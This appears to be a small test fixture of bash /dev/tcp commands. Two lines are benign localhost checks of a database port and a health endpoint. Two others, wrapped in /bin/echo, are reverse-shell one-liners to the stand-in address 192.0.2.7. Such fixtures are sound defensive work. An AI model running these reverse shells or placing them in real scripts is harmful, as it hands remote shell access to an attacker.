# SPDX-License-Identifier: Apache-2.0
bash -c '(echo > /dev/tcp/127.0.0.1/5432) > /dev/null 2>&1 || echo "database is down"'
bash -c 'exec 3<>/dev/tcp/127.0.0.1/8080; echo -e "GET /health HTTP/1.0\r\n" >&3; cat <&3'
/bin/echo bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'
/bin/echo bash -c 'exec 5<>/dev/tcp/192.0.2.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done'
